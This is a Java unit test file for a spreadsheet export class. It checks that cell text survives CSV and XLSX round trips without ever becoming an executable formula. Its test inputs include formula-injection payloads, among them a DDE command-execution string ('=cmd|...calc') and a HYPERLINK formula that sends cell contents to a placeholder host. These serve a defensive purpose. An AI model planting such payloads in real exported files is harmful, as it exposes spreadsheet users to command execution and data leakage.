package org.sabor.spreadsheet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CancellationException;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.sabor.message.Failure;

@Execution(ExecutionMode.CONCURRENT)
class TableWriterTest {
    private static final String DANGEROUS = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";
    private static final List<String> HOSTILE = List.of(
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "\uFF1D1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF201",
            "=HYPERLINK(\"http://a.example?\"&A1,\"x\")",
            "=cmd|'/C calc'!A0",
            "'=1",
            "''=1",
            "'",
            "'abc",
            "=\"x\"",
            "=\"\"",
            "=\"a\"b\"",
            "+359 888 000 101",
            "+ (359) 888/000-101",
            "0888000401",
            "359888000104",
            "0.5",
            "-",
            "+",
            "=",
            "@",
            "sep=;",
            "SEP=,",
            "a;b",
            "a,b",
            "a\tb",
            "a|b",
            "\"",
            "\"a\" b",
            "a \"b\"",
            " a",
            "a ",
            " \"a\"",
            "a\nb",
            "a\r\nb",
            "a\rb",
            "\r\n",
            "_x000D_",
            "_x005F_",
            "__x0041__",
            "_x",
            "a\u0001b",
            "\u0000",
            "\u001A",
            "x\u001A",
            "\uFEFFx",
            "\u200Bx",
            "\uFFFE",
            "😀",
            "é",
            "e\u0301",
            "Ş Ţ",
            "<b>&amp;</b>",
            "]]>",
            "\u2028",
            "12.03.2026 г.",
            "1E5",
            "TRUE",
            "00",
            "007",
            "я".repeat(9_999));

    @TempDir
    Path folder;

    @Test
    void hostileTextsReadBackToTheIdenticalOnesFromAWorkbook() {
        var table = everyTextInEveryColumn();
        new TableWriter("Участници", table.getFirst(), cells(table)).xlsx(folder.resolve("a.xlsx"), Steps.UNSEEN);
        assertEquals(table, read(folder.resolve("a.xlsx")));
    }

    @ParameterizedTest
    @ValueSource(chars = {';', ',', '\t'})
    void hostileTextsReadBackToTheIdenticalOnesFromCsv(char separator) {
        var table = everyTextInEveryColumn();
        new TableWriter("x", table.getFirst(), cells(table)).csv(folder.resolve("a.csv"), separator, Steps.UNSEEN);
        assertEquals(table, read(folder.resolve("a.csv")));
        for (var text : HOSTILE) {
            new TableWriter("x", List.of(text), List.of()).csv(folder.resolve("b.csv"), separator, Steps.UNSEEN);
            assertEquals(List.of(List.of(text)), read(folder.resolve("b.csv")), text);
        }
    }

    @Test
    void randomTextsReadBackToTheIdenticalOnes() {
        var random = new Random(20_261_124);
        var letters = "=+-@'\"\t\r\n;,|= \uFF1D0123456789()/.яa_x\u0001";
        for (int round = 0; round < 200; round++) {
            List<List<String>> table = new ArrayList<>();
            for (int row = 0; row < 6; row++) {
                var texts = new ArrayList<String>();
                for (int column = 0; column < 4; column++) {
                    var text = new StringBuilder("=".repeat(random.nextInt(2)));
                    for (int i = random.nextInt(8); i >= 0; i--) {
                        text.append(letters.charAt(random.nextInt(letters.length())));
                    }
                    texts.add(text.toString());
                }
                table.add(texts);
            }
            var writer = new TableWriter("x", table.getFirst(), cells(table));
            writer.csv(folder.resolve("a.csv"), ';', Steps.UNSEEN);
            assertEquals(table, read(folder.resolve("a.csv")));
            writer.xlsx(folder.resolve("a.xlsx"), Steps.UNSEEN);
            assertEquals(table, read(folder.resolve("a.xlsx")));
        }
    }

    /// The independent reader of commons-csv stands for any other program.
    @Test
    void nothingInACsvFileCanRun() throws IOException {
        var table = everyTextInEveryColumn();
        var file = folder.resolve("a.csv");
        new TableWriter("x", table.getFirst(), cells(table)).csv(file, ';', Steps.UNSEEN);
        var bytes = Files.readAllBytes(file);
        assertEquals("efbbbf", "%02x%02x%02x".formatted(bytes[0], bytes[1], bytes[2]));
        var text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        var format = CSVFormat.DEFAULT
                .builder()
                .setDelimiter(';')
                .setIgnoreEmptyLines(false)
                .get();
        int cells = 0;
        try (var records = format.parse(new java.io.StringReader(text))) {
            for (var record : records) {
                for (var cell : record) {
                    boolean constant = cell.matches("=\"[+0-9][0-9 ()/.\\-]*\"");
                    assertTrue(constant || DANGEROUS.indexOf(cell.charAt(0)) < 0, cell);
                    cells++;
                }
            }
        }
        assertEquals(table.size() * table.getFirst().size(), cells);
        assertTrue(text.contains("\"=\"\"+359 888 000 101\"\"\""), "a telephone is readable");
    }

    @Test
    void everyTextOfAWorkbookIsAStringForAnotherReaderToo() throws IOException {
        var table = everyTextInEveryColumn();
        var file = folder.resolve("a.xlsx");
        new TableWriter("x", table.getFirst(), cells(table)).xlsx(file, Steps.UNSEEN);
        assertFalse(part(file, "xl/worksheets/sheet1.xml").contains("<f"));
        try (var workbook = new ReadableWorkbook(file.toFile())) {
            var rows = workbook.getFirstSheet().read();
            assertEquals(table.size(), rows.size());
            for (var row : rows) {
                assertEquals(table.getFirst().size(), row.getCellCount());
                row.forEach(cell -> assertEquals(CellType.STRING, cell.getType()));
            }
            assertEquals("=1+1", rows.getFirst().getCellText(0));
        }
    }

    @Test
    void kindsAreKept() throws IOException {
        var row = List.of(
                Cell.text("Иван"),
                Cell.number(12),
                Cell.number(new BigDecimal("-12.50")),
                new Cell("12345678901234567890", Cell.Kind.NUMBER, false),
                Cell.date(LocalDate.of(2026, 2, 20)),
                Cell.date(LocalDateTime.of(2026, 2, 20, 10, 5, 7)),
                new Cell("10:05", Cell.Kind.DATE, false),
                new Cell("TRUE", Cell.Kind.BOOLEAN, false),
                Cell.EMPTY,
                new Cell("", Cell.Kind.ERROR, false),
                new Cell("=x", Cell.Kind.TEXT, true));
        var headings = List.of("a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "");
        var writer = new TableWriter("L'été [1]/2: a very long name of a sheet", headings, List.of(row));
        writer.xlsx(folder.resolve("a.xlsx"), Steps.UNSEEN);
        assertEquals(
                "L’été -1--2- a very long name o 1:a|b|c|d|e|f|g|h|i|j|k"
                        + " 2:Иван|12#|-12.5#|12345678901234567890|2026-02-20@|2026-02-20T10:05:07@|10:05|TRUE?|||=x",
                Shown.of(folder.resolve("a.xlsx")));
        writer.csv(folder.resolve("a.csv"), ';', Steps.UNSEEN);
        assertEquals(
                "\uFEFFa;b;c;d;e;f;g;h;i;j;k;\r\n"
                    + "Иван;12;\"=\"\"-12.5\"\"\";12345678901234567890;2026-02-20;2026-02-20T10:05:07;10:05;TRUE;;;'=x\r\n",
                Files.readString(folder.resolve("a.csv")));
        assertEquals(
                " 1:a|b|c|d|e|f|g|h|i|j|k"
                        + " 2:Иван|12|-12.5|12345678901234567890|2026-02-20|2026-02-20T10:05:07|10:05|TRUE|||=x",
                Shown.of(folder.resolve("a.csv")));
    }

    @Test
    void theSheetSaysItsSizeAndIsReadyForWork() throws IOException {
        var file = folder.resolve("a.xlsx");
        var rows = Collections.nCopies(100, Collections.nCopies(30, Cell.text("x")));
        new TableWriter("Участници", Collections.nCopies(30, "Име"), rows).xlsx(file, Steps.UNSEEN);
        var sheet = part(file, "xl/worksheets/sheet1.xml");
        assertTrue(sheet.contains("<dimension ref=\"A1:AD101\"/>"));
        assertTrue(sheet.contains("ySplit=\"1\"") && sheet.contains("state=\"frozen\""));
        assertTrue(sheet.contains("<autoFilter ref=\"A1:AD101\">"));
        assertTrue(part(file, "xl/styles.xml").contains("<b/>"));
        new TableWriter("", List.of("a"), List.of()).xlsx(file, Steps.UNSEEN);
        assertTrue(part(file, "xl/worksheets/sheet1.xml").contains("<dimension ref=\"A1:A1\"/>"));
    }

    @Test
    void thePropertiesNameTheProgramAndNobody() throws IOException {
        var file = folder.resolve("a.xlsx");
        new TableWriter("x", List.of("a"), List.of()).xlsx(file, Steps.UNSEEN);
        var core = part(file, "docProps/core.xml").replaceFirst("<dcterms:created.*</dcterms:created>", "");
        assertTrue(core.endsWith("<dc:creator>Sabor</dc:creator></cp:coreProperties>"), core);
        assertTrue(part(file, "docProps/app.xml").contains("<Application>Sabor</Application>"));
    }

    @Test
    void whatCannotBeWrittenLeavesWhatWasThere() throws IOException {
        var writer = new TableWriter("x", List.of("a"), List.of(List.of(Cell.text("y".repeat(40_000)))));
        var file = Files.writeString(folder.resolve("a.xlsx"), "before");
        assertRefused("sheets.not-written", () -> writer.xlsx(file, Steps.UNSEEN));
        assertThrows(
                CancellationException.class,
                () -> writer.csv(file, ';', (done, total) -> {
                    throw new CancellationException();
                }));
        assertEquals("before", Files.readString(file));
        assertRefused("sheets.folder-missing", () -> writer.csv(folder.resolve("gone/a.csv"), ';', Steps.UNSEEN));
        var inside = Files.createDirectories(folder.resolve("b.csv"));
        assertRefused("sheets.not-written", () -> writer.csv(inside, ';', Steps.UNSEEN));
        try (var files = Files.list(folder)) {
            assertEquals(
                    List.of("a.xlsx", "b.csv"),
                    files.map(each -> each.getFileName().toString()).sorted().toList());
        }
    }

    private static void assertRefused(String key, org.junit.jupiter.api.function.Executable writing) {
        var failure = assertThrows(Failure.class, writing);
        assertEquals(Failure.Exit.TARGET_REFUSED, failure.exit());
        assertEquals(key, failure.text().key());
    }

    /// Each text once in each of five columns, the first row being the headings.
    private static List<List<String>> everyTextInEveryColumn() {
        List<List<String>> rows = new ArrayList<>();
        for (int row = 0; row < HOSTILE.size(); row++) {
            var texts = new ArrayList<String>();
            for (int column = 0; column < 5; column++) {
                texts.add(HOSTILE.get((row + column * 7) % HOSTILE.size()));
            }
            rows.add(texts);
        }
        return rows;
    }

    private static List<List<Cell>> cells(List<List<String>> table) {
        return table.subList(1, table.size()).stream()
                .map(row -> row.stream().map(Cell::text).toList())
                .toList();
    }

    private static List<List<String>> read(Path file) {
        return TableReader.read(file, ReadOptions.FROM_CONTENT, Steps.UNSEEN).sheets().getFirst().rows().stream()
                .map(row -> row.cells().stream().map(Cell::text).toList())
                .toList();
    }

    private static String part(Path file, String name) throws IOException {
        try (var zip = new ZipFile(file.toFile());
                var in = zip.getInputStream(zip.getEntry(name))) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
